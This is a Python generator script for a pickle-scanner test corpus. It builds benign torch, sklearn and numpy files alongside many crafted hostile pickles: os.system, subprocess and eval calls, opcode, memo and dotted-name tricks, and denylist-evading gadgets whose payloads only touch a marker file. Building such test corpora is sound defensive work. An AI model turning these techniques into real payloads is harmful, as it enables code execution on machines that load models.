#!/usr/bin/python3
"""Generate the picklejail sample corpus and corpus/manifest.jsonl.

Run with Debian's /usr/bin/python3 (needs python3-torch, -numpy, -sklearn,
-joblib, -pandas). Output is deterministic: fixed seeds, PYTHONHASHSEED=0
(re-exec'd if unset), fixed zip/gzip/tar timestamps.

Nothing here loads (unpickles) a hostile sample; verify.py does that, in a
child process, with PJ_MARKER_DIR pointing at a fresh temp dir. Payloads only
create an empty marker file in $PJ_MARKER_DIR (or fail harmlessly when it is
unset).
"""
import os
import sys

if os.environ.get('PYTHONHASHSEED') != '0':
    os.environ['PYTHONHASHSEED'] = '0'
    os.execv(sys.executable, [sys.executable] + sys.argv)

import bz2
import collections
import gzip
import io
import json
import lzma
import pathlib
import pickle
import pickletools
import random
import shutil
import struct
import subprocess
import tarfile
import warnings
import zipfile
import zlib
from pathlib import Path

warnings.filterwarnings('ignore')

GEN = Path(__file__).resolve().parent
sys.path.insert(0, str(GEN))
import pj_asm as A  # noqa: E402

CORPUS = GEN.parent
ROOT = CORPUS.parent
SUBDIRS = ['benign', 'malicious', 'malformed', 'loadfail']
ENTRIES = []


# ---------------------------------------------------------------------------
# output helpers

def emit(relpath, data, category, verdict, fmt, loader, description,
         globals_=(), **extra):
    p = CORPUS / relpath
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    e = collections.OrderedDict()
    e['path'] = 'corpus/' + relpath
    e['category'] = category
    e['expected_verdict'] = verdict
    e['must_report_globals'] = list(globals_)
    e['format'] = fmt
    e['loader'] = loader
    e['description'] = description
    for k, v in extra.items():
        if v is not None:
            e[k] = v
    assert not any(x['path'] == e['path'] for x in ENTRIES), e['path']
    ENTRIES.append(e)
    return e


def sh_cmd(name):
    return 'touch "${PJ_MARKER_DIR:-/nonexistent}/%s"' % name


def py_code(name):
    return ("import os;open(os.path.join(os.environ.get('PJ_MARKER_DIR',"
            "'/nonexistent'),%r),'w').close()" % name)


def py_expr(name):
    return ("open(__import__('os').path.join(__import__('os').environ.get("
            "'PJ_MARKER_DIR','/nonexistent'),%r),'w').close()" % name)


def marker_path_expr(name, p):
    """Bytes computing '$PJ_MARKER_DIR/name' at load time via posixpath.expandvars."""
    return A.call(A.g('posixpath', 'expandvars', p), [A.s('${PJ_MARKER_DIR}/' + name, p)], p)


class Reduce:
    """Object whose pickling is (fn, args): lets the real pickler write a payload."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


# ---------------------------------------------------------------------------
# zip / tar writers with fixed timestamps (and room for lies)

def zip_build(entries, cut_eocd=False):
    """entries: dicts with name, data, and optional lname (local-header name),
    flags, crc (override), extra. Stored (method 0), DOS date 1980-01-01."""
    out = bytearray()
    cd = bytearray()
    for e in entries:
        name = e['name'].encode()
        lname = e.get('lname', e['name']).encode()
        data = e['data']
        flags = e.get('flags', 0)
        crc = e.get('crc', zlib.crc32(data))
        extra = e.get('extra', b'')
        off = len(out)
        out += struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, flags, 0, 0, 0x21,
                           crc, len(data), len(data), len(lname), len(extra))
        out += lname + extra + data
        cd += struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, flags, 0,
                          0, 0x21, crc, len(data), len(data), len(name), 0, 0,
                          0, 0, 0, off)
        cd += name
    cd_off = len(out)
    out += cd
    if not cut_eocd:
        out += struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, len(entries),
                           len(entries), len(cd), cd_off, 0)
    return bytes(out)


def zip_members(data):
    z = zipfile.ZipFile(io.BytesIO(data))
    return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def tar_build(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w', format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            ti.mode = 0o644
            ti.uname = ti.gname = ''
            t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def _7z_num(v):
    if v < 0x80:
        return bytes([v])
    if v < 0x4000:
        return bytes([0x80 | (v >> 8), v & 0xff])
    if v < 0x200000:
        return bytes([0xc0 | (v >> 16)]) + struct.pack('<H', v & 0xffff)
    return b'\xff' + struct.pack('<Q', v)


def sevenzip_build(name, data):
    """Minimal 7z archive: one file, Copy coder (method id 00), CRCs set."""
    n = _7z_num
    hdr = b'\x01'                                             # kHeader
    hdr += b'\x04'                                            # kMainStreamsInfo
    hdr += b'\x06' + n(0) + n(1) + b'\x09' + n(len(data)) + b'\x00'   # kPackInfo
    hdr += b'\x07' + b'\x0b' + n(1) + b'\x00'                 # kUnPackInfo, kFolder, 1 folder, not external
    hdr += n(1) + b'\x01' + b'\x00'                           # 1 coder, id size 1, id 00 = Copy
    hdr += b'\x0c' + n(len(data))                             # kCodersUnPackSize
    hdr += b'\x0a' + b'\x01' + struct.pack('<I', zlib.crc32(data))  # kCRC, all defined
    hdr += b'\x00'                                            # end UnPackInfo
    hdr += b'\x00'                                            # end MainStreamsInfo
    names = b'\x00' + name.encode('utf-16-le') + b'\x00\x00'
    hdr += b'\x05' + n(1) + b'\x11' + n(len(names)) + names + b'\x00'  # kFilesInfo, kName
    hdr += b'\x00'                                            # end Header
    start = struct.pack('<QQI', len(data), len(hdr), zlib.crc32(hdr))
    sig = b"7z\xbc\xaf\x27\x1c" + b'\x00\x04' + struct.pack('<I', zlib.crc32(start)) + start
    return sig + data + hdr


def gz(data):
    return gzip.compress(data, compresslevel=9, mtime=0)


def npy_header(descr, shape, fortran=False):
    d = "{'descr': %r, 'fortran_order': %s, 'shape': %r, }" % (descr, fortran, shape)
    hlen = len(d) + 1
    pad = (64 - (10 + hlen) % 64) % 64
    d = d + ' ' * pad + '\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(d)) + d.encode('latin1')


# ---------------------------------------------------------------------------
# benign real-world files

def torch_bytes(obj, **kw):
    import torch
    b = io.BytesIO()
    torch.save(obj, b, **kw)
    return b.getvalue()


def split_pickles(data, n):
    """Split the first n concatenated pickles off data: ([p1..pn], rest)."""
    out, pos = [], 0
    for _ in range(n):
        ops = list(pickletools.genops(data[pos:]))
        end = pos + ops[-1][2] + 1
        out.append(data[pos:end])
        pos = end
    return out, data[pos:]


def legacy_save(obj):
    """Legacy torch.save with stable bytes. Storage keys are str(address) and
    the raw storages follow in sorted-key order; rename keys to zero-padded
    first-use indices and reorder the raw blocks to match (float32 only)."""
    import re
    data = torch_bytes(obj, _use_new_zipfile_serialization=False)
    pk, raw = split_pickles(data, 5)
    sorted_keys = [k.encode() for k in pickle.loads(pk[4])]
    first = []
    for m in re.finditer(rb'X(.{4})(\d{1,20})', pk[3], re.S):
        k = m.group(2)
        if struct.unpack('<I', m.group(1))[0] == len(k) and k in sorted_keys and k not in first:
            first.append(k)
    assert sorted(first) == sorted(sorted_keys)
    blocks, pos = {}, 0
    for k in sorted_keys:
        numel = struct.unpack('<q', raw[pos:pos + 8])[0]
        blocks[k] = raw[pos:pos + 8 + 4 * numel]
        pos += 8 + 4 * numel
    assert pos == len(raw)
    obj_pk = pk[3]
    for idx, k in enumerate(first):
        obj_pk = obj_pk.replace(b'X' + struct.pack('<I', len(k)) + k, A.binunicode('%04d' % idx))
    keys_pk = pickle.dumps(['%04d' % i for i in range(len(first))], protocol=2)
    return pk[0] + pk[1] + pk[2] + obj_pk + keys_pk + b''.join(blocks[k] for k in first)


def gen_benign():
    import numpy as np
    import torch
    import joblib
    import pandas as pd
    from sklearn.linear_model import LogisticRegression
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    torch.manual_seed(0)
    np.random.seed(0)
    out = {}

    # -- torch
    net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    sd = net.state_dict()
    d = torch_bytes(sd)
    out['torch_zip'] = d
    emit('benign/torch_state_dict.pt', d, 'benign', 'safe', 'torch-zip', 'torch.load',
         'torch.save of a small Sequential state_dict (zip format, archive/ prefix)',
         streams=['archive/data.pkl'])
    d = legacy_save(sd)
    out['torch_legacy'] = d
    emit('benign/torch_state_dict_legacy.pt', d, 'benign', 'safe', 'torch-legacy', 'torch.load',
         'torch.save(_use_new_zipfile_serialization=False): magic, 1001, sys_info, object, keys pickles + raw storages',
         streams=['pickle#1', 'pickle#2', 'pickle#3', 'pickle#4', 'pickle#5'])
    lin = torch.nn.Linear(3, 2)
    emit('benign/torch_whole_module.pt', torch_bytes(lin), 'benign', 'safe', 'torch-zip', 'torch.load',
         'torch.save of a whole nn.Linear module (references torch.nn.modules.linear.Linear, __builtin__.set)',
         streams=['archive/data.pkl'])
    emit('benign/torch_whole_module_legacy.pt',
         legacy_save(net), 'benign', 'safe',
         'torch-legacy', 'torch.load', 'legacy torch.save of a whole nn.Sequential module')
    b = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), b)
    emit('benign/torchscript_linear.pt', b.getvalue(), 'benign', 'safe', 'torchscript', 'torch.jit.load',
         'torch.jit.script(nn.Linear) saved with torch.jit.save (code/, constants.pkl, data.pkl)',
         streams=['archive/data.pkl', 'archive/constants.pkl'])
    opt = torch.optim.Adam(net.parameters(), lr=0.01)
    net(torch.randn(2, 4)).sum().backward()
    opt.step()
    emit('benign/torch_optimizer_adam.pt', torch_bytes(opt.state_dict()), 'benign', 'safe', 'torch-zip',
         'torch.load', 'Adam optimizer state_dict after one step', streams=['archive/data.pkl'])
    learner = {
        'path': pathlib.PosixPath('/data/pets'),
        'model_dir': pathlib.PosixPath('models'),
        'model': collections.OrderedDict((k, v.clone()) for k, v in lin.state_dict().items()),
        'classes': ['cat', 'dog'],
        'opt_state': None,
        'metrics': ('accuracy', 0.91),
    }
    emit('benign/fastai_style_learner.pth', torch_bytes(learner), 'benign', 'safe', 'torch-zip', 'torch.load',
         'fastai-like export: dict with pathlib.PosixPath, OrderedDict of tensors, list/tuple',
         streams=['archive/data.pkl'])
    learner2 = dict(learner)
    learner2['model'] = collections.OrderedDict([('w', [1.0, 2.0]), ('b', 0.5)])
    emit('benign/fastai_style_learner_p4.pkl', pickle.dumps(learner2, protocol=4), 'benign', 'safe',
         'pickle', 'pickle.load', 'fastai-like dict with PosixPath and OrderedDict, pickle protocol 4')

    # -- sklearn
    rng = np.random.RandomState(0)
    X = rng.randn(40, 4)
    y = (X[:, 0] + X[:, 1] > 0).astype(int)
    lr = LogisticRegression().fit(X, y)
    rf = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y)
    pipe = Pipeline([('scale', StandardScaler()), ('clf', LogisticRegression())]).fit(X, y)
    out['sk_lr'] = lr
    out['sk_rf'] = rf
    emit('benign/sklearn_logreg_p4.pkl', pickle.dumps(lr, protocol=4), 'benign', 'safe', 'pickle',
         'pickle.load', 'sklearn LogisticRegression, pickle protocol 4')
    emit('benign/sklearn_logreg_p2.pkl', pickle.dumps(lr, protocol=2), 'benign', 'safe', 'pickle',
         'pickle.load', 'sklearn LogisticRegression, pickle protocol 2 (copy_reg names, _codecs.encode)')
    emit('benign/sklearn_random_forest_p5.pkl', pickle.dumps(rf, protocol=5), 'benign', 'safe', 'pickle',
         'pickle.load', 'sklearn RandomForestClassifier (3 trees, depth 3), protocol 5')
    emit('benign/sklearn_pipeline_p4.pkl', pickle.dumps(pipe, protocol=4), 'benign', 'safe', 'pickle',
         'pickle.load', 'sklearn Pipeline(StandardScaler, LogisticRegression), protocol 4')
    tmp = GEN / '_tmp_joblib'
    tmp.mkdir(exist_ok=True)
    for suffix, comp, fmt, desc in [
            ('', 0, 'joblib', 'uncompressed (arrays inline after NumpyArrayWrapper)'),
            ('_zlib', 3, 'joblib-zlib', 'compress=3 (zlib)'),
            ('_gzip', ('gzip', 3), 'gzip', "compress=('gzip',3), gzip mtime zeroed"),
            ('_bz2', ('bz2', 3), 'bz2', "compress=('bz2',3)"),
            ('_xz', ('xz', 3), 'xz', "compress=('xz',3)")]:
        for obj_name, obj in [('pipeline', pipe), ('random_forest', rf)]:
            if obj_name == 'random_forest' and suffix not in ('', '_zlib'):
                continue
            fn = tmp / 'm.joblib'
            joblib.dump(obj, fn, compress=comp)
            data = fn.read_bytes()
            if fmt == 'gzip':
                data = data[:4] + b'\0\0\0\0' + data[8:]
            emit('benign/sklearn_%s_joblib%s.joblib' % (obj_name, suffix), data, 'benign', 'safe', fmt,
                 'joblib.load', 'joblib.dump of sklearn %s, %s' % (obj_name, desc))
    shutil.rmtree(tmp)

    # -- numpy
    arr = np.arange(12, dtype='<f4').reshape(3, 4)
    b = io.BytesIO()
    np.save(b, arr)
    emit('benign/numpy_float_array.npy', b.getvalue(), 'benign', 'safe', 'npy', 'numpy.load',
         'np.save of a float32 3x4 array (no pickle)')
    oarr = np.empty(3, dtype=object)
    oarr[0], oarr[1], oarr[2] = {'a': 1}, [1, 2, 3], 'text'
    b = io.BytesIO()
    np.save(b, oarr, allow_pickle=True)
    emit('benign/numpy_object_array.npy', b.getvalue(), 'benign', 'safe', 'npy', 'numpy.load',
         'np.save of an object array (header descr |O, then a protocol-3 pickle)')
    zb = io.BytesIO()
    with zipfile.ZipFile(zb, 'w') as z:
        for name, a in [('weights', arr), ('labels', np.array([1, 0, 1], dtype='<i8'))]:
            ab = io.BytesIO()
            np.lib.format.write_array(ab, a)
            z.writestr(zipfile.ZipInfo(name + '.npy', (1980, 1, 1, 0, 0, 0)), ab.getvalue())
    emit('benign/numpy_arrays.npz', zb.getvalue(), 'benign', 'safe', 'npz', 'numpy.load',
         'np.savez-style archive with two plain arrays (fixed zip timestamps)')
    emit('benign/numpy_ndarray_p2.pkl', pickle.dumps(arr, protocol=2), 'benign', 'safe', 'pickle',
         'pickle.load', 'pickle of an ndarray at protocol 2 (numpy.core.multiarray._reconstruct; numpy 1.x paths)')
    out['ndarray_p2'] = pickle.dumps(arr, protocol=2)

    # -- pandas
    df = pd.DataFrame({'a': [1, 2, 3], 'b': [0.5, 1.5, 2.5], 'c': ['x', 'y', 'z']})
    tmpf = GEN / '_tmp.pkl'
    df.to_pickle(tmpf)
    emit('benign/pandas_dataframe.pkl', tmpf.read_bytes(), 'benign', 'safe', 'pickle',
         'pandas.read_pickle', 'pandas DataFrame.to_pickle (protocol 5)')
    tmpf.unlink()

    # -- plain containers, every protocol
    obj = {
        'name': 'model-v1', 'version': 3, 'ratio': 0.25, 'big': 2 ** 70, 'neg': -7,
        'flags': [True, False, None], 'shape': (3, 4), 'blob': b'\x00\x01binary',
        'tags': {1, 2, 3}, 'nested': {'l': [[1, 2], [3, {'k': 'v'}]], 't': ((),)},
        'unicode': 'h\u00e9llo \u4e16\u754c',
    }
    for p in range(6):
        d = pickle.dumps(obj, protocol=p)
        out['containers_p%d' % p] = d
        emit('benign/containers_p%d.pkl' % p, d, 'benign', 'safe', 'pickle', 'pickle.load',
             'nested dict/list/tuple/set/str/bytes/int/bigint/float/bool/None, protocol %d' % p)
    out['small_p2'] = pickle.dumps({'a': [1, 2.5, 'x'], 'b': (True, None), 'c': b'zz'}, protocol=2)
    out['small_p4'] = pickle.dumps({'a': [1, 2.5, 'x'], 'b': (True, None), 'c': b'zz', 's': {7}}, protocol=4)
    out['small_p0'] = pickle.dumps({'a': [1, 2.5, 'x'], 'b': (True, None)}, protocol=0)
    out['odict_p2'] = pickle.dumps(collections.OrderedDict([('w', [1.0, 2.0]), ('b', 3)]), protocol=2)
    emit('benign/ordereddict_p2.pkl', out['odict_p2'], 'benign', 'safe', 'pickle', 'pickle.load',
         'collections.OrderedDict at protocol 2')
    return out


# ---------------------------------------------------------------------------
# malicious samples (payload: create $PJ_MARKER_DIR/<sample stem>)

def mal(stem, data, globals_, description, fmt='pickle', loader='pickle.load', ext='.pkl', **extra):
    return emit('malicious/%s%s' % (stem, ext), data, 'malicious', 'dangerous', fmt, loader,
                description, globals_, marker=stem, **extra)


def os_system(name, p, mod='os', fn='system'):
    return A.call(A.g(mod, fn, p), [A.s(sh_cmd(name), p)], p)


def gen_malicious_core():
    # os.system through every protocol
    for p in range(6):
        st = 'os_system_p%d' % p
        mal(st, A.wrap(os_system(st, p), p), ['os.system'],
            'os.system(touch marker) via %s + REDUCE, protocol %d' % ('STACK_GLOBAL' if p >= 4 else 'GLOBAL', p))
    st = 'os_system_p0_string'
    mal(st, A.global_('os', 'system') + A.MARK + A.string0(sh_cmd(st)) + A.TUPLE + A.REDUCE + A.STOP,
        ['os.system'], "protocol-0 GLOBAL 'os\\nsystem' with STRING (S'...') argument, as Python 2 wrote it")
    # real pickler output (os.system pickles as posix.system)
    for p in (2, 4):
        st = 'posix_system_realpickler_p%d' % p
        mal(st, pickle.dumps(Reduce(os.system, (sh_cmd(st),)), protocol=p), ['posix.system'],
            'pickle.dumps of an object whose __reduce__ returns (os.system, cmd); protocol %d' % p)
    st = 'posix_system_hand_p2'
    mal(st, A.wrap(os_system(st, 2, 'posix', 'system'), 2), ['posix.system'], 'posix.system via GLOBAL, protocol 2')
    st = 'os_popen_p2'
    mal(st, A.wrap(os_system(st, 2, 'os', 'popen') + A.POP + A.NONE, 2), ['os.popen'],
        'os.popen(cmd) (shell runs asynchronously; result popped)')

    # subprocess
    def argv(name, p):
        return A.lst([A.s('sh', p), A.s('-c', p), A.s(sh_cmd(name), p)], p)
    for st, fn, p in [('subprocess_popen_p2', 'Popen', 2), ('subprocess_check_call_p4', 'check_call', 4),
                      ('subprocess_run_p3', 'run', 3), ('subprocess_call_p0', 'call', 0),
                      ('subprocess_check_output_p5', 'check_output', 5)]:
        mal(st, A.wrap(A.call(A.g('subprocess', fn, p), [argv(st, p)], p), p), ['subprocess.' + fn],
            "subprocess.%s(['sh','-c',cmd]), protocol %d" % (fn, p))
    st = 'subprocess_getoutput_p1'
    mal(st, A.wrap(os_system(st, 1, 'subprocess', 'getoutput'), 1), ['subprocess.getoutput'],
        'subprocess.getoutput(cmd) (shell), protocol 1')

    # builtins
    st = 'builtins_eval_p4'
    mal(st, A.wrap(A.call(A.g('builtins', 'eval', 4), [A.s(py_expr(st), 4)], 4), 4), ['builtins.eval'],
        'builtins.eval(python expression writing the marker), STACK_GLOBAL protocol 4')
    st = 'builtins_exec_p3'
    mal(st, A.wrap(A.call(A.g('builtins', 'exec', 3), [A.s(py_code(st), 3)], 3), 3), ['builtins.exec'],
        'builtins.exec(python statements), GLOBAL protocol 3')
    st = 'builtins_compile_eval_p4'
    code = A.call(A.g('builtins', 'compile', 4), [A.s(py_code(st), 4), A.s('<pj>', 4), A.s('exec', 4)], 4)
    mal(st, A.wrap(A.call(A.g('builtins', 'eval', 4), [code], 4), 4), ['builtins.compile', 'builtins.eval'],
        "builtins.eval(builtins.compile(src,'<pj>','exec'))")
    st = 'builtin_eval_p0'
    mal(st, A.wrap(A.call(A.global_('__builtin__', 'eval'), [A.s(py_expr(st), 0)], 0), 0), ['builtins.eval'],
        "Python-2 name GLOBAL '__builtin__\\neval', protocol 0 (maps to builtins.eval)")
    st = 'builtin_exec_p1'
    mal(st, A.wrap(A.call(A.global_('__builtin__', 'exec'), [A.s(py_code(st), 1)], 1), 1), ['builtins.exec'],
        "GLOBAL '__builtin__\\nexec', protocol 1")
    st = 'builtin_getattr_import_p2'
    imp = A.call(A.global_('__builtin__', '__import__'), [A.s('os', 2)], 2)
    ga = A.call(A.global_('__builtin__', 'getattr'), [imp, A.s('system', 2)], 2)
    mal(st, A.wrap(A.call(ga, [A.s(sh_cmd(st), 2)], 2), 2), ['builtins.getattr', 'builtins.__import__'],
        "__builtin__.getattr(__builtin__.__import__('os'),'system')(cmd), protocol 2")
    st = 'builtins_getattr_import_memo_p4'
    body = (A.sbu('builtins') + A.MEMOIZE + A.sbu('getattr') + A.STACK_GLOBAL +
            A.binget(0) + A.sbu('__import__') + A.STACK_GLOBAL + A.sbu('os') + A.TUPLE1 + A.REDUCE +
            A.sbu('system') + A.TUPLE2 + A.REDUCE + A.sbu(sh_cmd(st)) + A.TUPLE1 + A.REDUCE)
    mal(st, A.wrap(body, 4), ['builtins.getattr', 'builtins.__import__'],
        "getattr(__import__('os'),'system')(cmd); module string 'builtins' reused through MEMOIZE/BINGET")

    # calling opcodes other than REDUCE
    st = 'inst_os_system_p0'
    mal(st, A.MARK + A.string0(sh_cmd(st)) + A.inst('os', 'system') + A.STOP, ['os.system'],
        "INST opcode: (S'cmd' ios\\nsystem -> os.system(cmd) through _instantiate")
    st = 'obj_os_system_p1'
    mal(st, A.MARK + A.global_('os', 'system') + A.binunicode(sh_cmd(st)) + A.OBJ + A.STOP, ['os.system'],
        'OBJ opcode: MARK os.system cmd OBJ -> os.system(cmd)')
    st = 'inst_builtin_exec_p0'
    mal(st, A.MARK + A.unicode0(py_code(st)) + A.inst('__builtin__', 'exec') + A.STOP, ['builtins.exec'],
        "INST '__builtin__ exec' with a protocol-0 UNICODE argument")
    st = 'newobj_tuple_map_p2'
    mp = A.global_('builtins', 'map') + A.global_('os', 'system') + A.lst([A.s(sh_cmd(st), 2)], 2) + A.TUPLE2 + A.NEWOBJ
    body = A.global_('builtins', 'tuple') + mp + A.TUPLE1 + A.NEWOBJ
    mal(st, A.wrap(body, 2), ['os.system', 'builtins.map', 'builtins.tuple'],
        'NEWOBJ only: tuple.__new__(tuple, map.__new__(map, os.system, [cmd])) consumes the map, calling os.system')
    st = 'newobj_ex_tuple_map_p4'
    mp = (A.g('builtins', 'map', 4) + A.g('os', 'system', 4) + A.lst([A.sbu(sh_cmd(st))], 4) + A.TUPLE2 +
          A.EMPTY_DICT + A.NEWOBJ_EX)
    body = A.g('builtins', 'tuple', 4) + mp + A.TUPLE1 + A.EMPTY_DICT + A.NEWOBJ_EX
    mal(st, A.wrap(body, 4), ['os.system', 'builtins.map', 'builtins.tuple'],
        'NEWOBJ_EX only: tuple.__new__(tuple, map(os.system, [cmd]), **{}) via two NEWOBJ_EX')
    st = 'obj_discarded_by_pop_p4'
    body = A.MARK + A.g('os', 'system', 4) + A.sbu(sh_cmd(st)) + A.OBJ + A.POP + A.NONE
    mal(st, A.wrap(body, 4), ['os.system'], 'OBJ call whose result is POPped; stream returns None (fickling GHSA-mxhj-88fx-4pcv)')

    # dotted names (protocol >= 4 attribute walk)
    st = 'dotted_pathlib_os_system_p4'
    mal(st, A.wrap(os_system(st, 4, 'pathlib', 'os.system'), 4), ['pathlib.os.system'],
        "STACK_GLOBAL 'pathlib' 'os.system' (proto 4 walks pathlib.os.system == os.system)")
    st = 'dotted_global_opcode_p4'
    mal(st, A.wrap(A.call(A.global_('pathlib', 'os.system'), [A.sbu(sh_cmd(st))], 4), 4), ['pathlib.os.system'],
        "GLOBAL 'pathlib\\nos.system' under PROTO 4 (GLOBAL also walks dots when proto>=4)")
    st = 'dotted_shutil_os_system_p5'
    mal(st, A.wrap(os_system(st, 5, 'shutil', 'os.system'), 5), ['shutil.os.system'],
        "STACK_GLOBAL 'shutil' 'os.system', protocol 5")
    st = 'dotted_torch_serialization_os_system_p4'
    mal(st, A.wrap(os_system(st, 4, 'torch', 'serialization.os.system'), 4), ['torch.serialization.os.system'],
        "STACK_GLOBAL 'torch' 'serialization.os.system' (allowlisted-looking module prefix)")
    st = 'dotted_pathlib_os_system_p2'
    mal(st, A.wrap(A.call(A.global_('pathlib', 'os.system'), [A.s(sh_cmd(st), 2)], 2), 2), ['pathlib.os.system'],
        "GLOBAL 'pathlib\\nos.system' under PROTO 2: no dotted walk, CPython raises AttributeError (does not run)",
        expect_executes=False,
        verdict_note='payload does not execute on CPython (proto<4); still a reference to os.system')

    # memo tricks
    st = 'memo_hidden_binget_p4'
    body = (A.sbu('os') + A.binput(0) + A.POP + A.sbu('system') + A.binput(1) + A.POP +
            A.binget(0) + A.binget(1) + A.STACK_GLOBAL + A.sbu(sh_cmd(st)) + A.TUPLE1 + A.REDUCE)
    mal(st, A.wrap(body, 4), ['os.system'], 'STACK_GLOBAL operands fetched with BINGET after BINPUT+POP')
    st = 'memo_put_memoize_mix_p4'
    body = (A.sbu('os') + A.MEMOIZE + A.POP + A.sbu('system') + A.binput(7) + A.POP +
            A.sbu('decoy') + A.MEMOIZE + A.POP + A.sbu('subprocess') + A.binput(1) + A.POP +
            A.binget(0) + A.binget(7) + A.STACK_GLOBAL + A.sbu(sh_cmd(st)) + A.TUPLE1 + A.REDUCE)
    mal(st, A.wrap(body, 4), ['os.system'],
        'MEMOIZE (index = len(memo)) mixed with explicit BINPUT 7 / BINPUT 1; decoy strings (anchors 5.1 #2/#3)')
    st = 'memo_misattribution_p4'
    body = (A.sbu('os') + A.sbu('junk') + A.POP + A.binput(0) + A.POP + A.sbu('system') + A.binput(1) + A.POP +
            A.binget(0) + A.binget(1) + A.STACK_GLOBAL + A.sbu(sh_cmd(st)) + A.TUPLE1 + A.REDUCE)
    mal(st, A.wrap(body, 4), ['os.system'], "push 'os','junk'; POP; BINPUT 0 memoizes 'os' (not the last op's arg)")
    st = 'memo_text_put_get_p0'
    body = (A.unicode0('os') + A.put0(2) + A.POP + A.unicode0('torch') + A.put0(0) + A.POP +
            A.unicode0('system') + A.put0(3) + A.POP +
            A.get0(2) + A.get0(3) + A.STACK_GLOBAL + A.MARK + A.unicode0(sh_cmd(st)) + A.TUPLE + A.REDUCE)
    mal(st, body + A.STOP, ['os.system'], 'protocol-0 PUT/GET with non-sequential indices feeding STACK_GLOBAL (no PROTO)')
    st = 'memo_miss_after_payload_p2'
    body = os_system(st, 2) + A.POP + A.binget(9)
    mal(st, A.wrap(body, 2), ['os.system'], 'payload REDUCE, POP, then BINGET 9 never PUT: KeyError after execution')
    st = 'stack_global_string_operands_p0'
    body = A.string0('os') + A.string0('system') + A.STACK_GLOBAL + A.string0(sh_cmd(st)) + A.TUPLE1 + A.REDUCE
    mal(st, body + A.STOP, ['os.system'], 'no PROTO; STACK_GLOBAL with STRING operands at stream start (GHSA-9gvj-pp9x-gcfr)')

    # nested pickles
    inner = A.wrap(os_system('nested_pickle_loads_p2', 2), 2)
    st = 'nested_pickle_loads_p2'
    mal(st, A.wrap(A.call(A.global_('pickle', 'loads'), [A.binbytes(inner)], 3), 3), ['pickle.loads'],
        'pickle.loads(BINBYTES holding an os.system pickle)', nested_globals=['os.system'])
    st = 'nested_pickle_loads_twice_p4'
    inner = A.wrap(os_system(st, 4, 'posix', 'system'), 4)
    mid = A.wrap(A.call(A.g('_pickle', 'loads', 4), [A.binbytes(inner)], 4), 4)
    mal(st, A.wrap(A.call(A.g('pickle', 'loads', 4), [A.binbytes(mid)], 4), 4), ['pickle.loads'],
        'pickle.loads(_pickle.loads(posix.system pickle)) two levels deep', nested_globals=['_pickle.loads', 'posix.system'])

    # payload then broken stream
    st = 'reduce_then_garbage_p2'
    mal(st, A.proto(2) + os_system(st, 2) + b'\xff\xfe\xfdgarbage', ['os.system'],
        'REDUCE runs, then invalid opcode bytes and no STOP (nullifAI broken pickle)')
    st = 'reduce_then_truncated_p4'
    inner = os_system(st, 4)
    body = A.proto(4) + A.frame(len(inner)) + inner + b'\x8c\x10abc'
    mal(st, body, ['os.system'], 'protocol 4: framed REDUCE executes, then a SHORT_BINUNICODE declaring 16 bytes '
        'with 3 present (pickle data was truncated)')
    st = 'stacked_benign_then_malicious'
    mal(st, pickle.dumps({'ok': 1}, protocol=2) + A.wrap(os_system(st, 2), 2), ['os.system'],
        'two concatenated pickles: benign first, payload second (pickle.load reads only the first)',
        expect_executes=False,
        verdict_note='pickle.load stops at the first STOP; payload runs only for loaders that read on (legacy torch.load)')

    # FRAME straddle. A FRAME of >= 131072 bytes (PREFETCH) is read by the C
    # unpickler with one file.read(); a BINBYTES whose 4-byte length straddles
    # the frame end then loses the in-frame byte and takes its length from the
    # bytes after the frame (here 0), so the bytes genops sees as the BINBYTES
    # argument are executed as opcodes. Needs pickle.load on a file object.
    st = 'frame_straddle_p5'
    flen = 131072 + 16
    pad = flen - 5 - 1 - 2
    hidden = b'\x00' + A.global_('os', 'system') + A.binunicode(sh_cmd(st)) + A.TUPLE1 + A.REDUCE + A.MARK
    assert len(hidden) < 256
    data = (A.proto(5) + A.MARK + A.frame(flen) + b'X' + struct.pack('<I', pad) + b'a' * pad + A.POP +
            b'B' + bytes([len(hidden)]) + b'\x00\x00\x00' + hidden + A.POP_MARK + A.STOP)
    mal(st, data, ['os.system'],
        'FRAME straddle: BINBYTES length crosses the end of a 131088-byte FRAME; C pickle.load(file) re-reads '
        'the length after the frame (0) and runs the bytes genops sees as a harmless BINBYTES argument; '
        'pickle.loads(bytes) and the pure-Python unpickler do not execute it')


def gen_gadgets():
    """Published denylist-evading stdlib gadgets (anchors.md 5.1 #29-#33)."""
    P = 2

    def S(x, p=P):
        return A.s(x, p)

    def G(m, n, p=P):
        return A.g(m, n, p)

    def C(fn, args, p=P):
        return A.call(fn, args, p)

    def gadget(stem, body, globals_, desc, p=P, **kw):
        mal('gadget_' + stem, A.wrap(body, p), globals_, desc, **kw)

    st = 'gadget_runpy_run_code'
    gadget('runpy_run_code', C(G('runpy', '_run_code'), [S(py_code(st)), A.EMPTY_DICT]), ['runpy._run_code'],
           'runpy._run_code(src, {}) -> exec(src)')
    st = 'gadget_timeit_timeit'
    gadget('timeit_timeit', C(G('timeit', 'timeit'), [S(py_code(st)), S('pass'), G('timeit', 'default_timer'),
                                                      A.binint(1)]), ['timeit.timeit'],
           "timeit.timeit(src, 'pass', timeit.default_timer, 1) compiles and runs src")
    st = 'gadget_cprofile_run'
    gadget('cprofile_run', C(G('cProfile', 'run'), [S(py_code(st))]), ['cProfile.run'],
           'cProfile.run(src) execs src in __main__ (prints a profile to stdout)')
    st = 'gadget_profile_run'
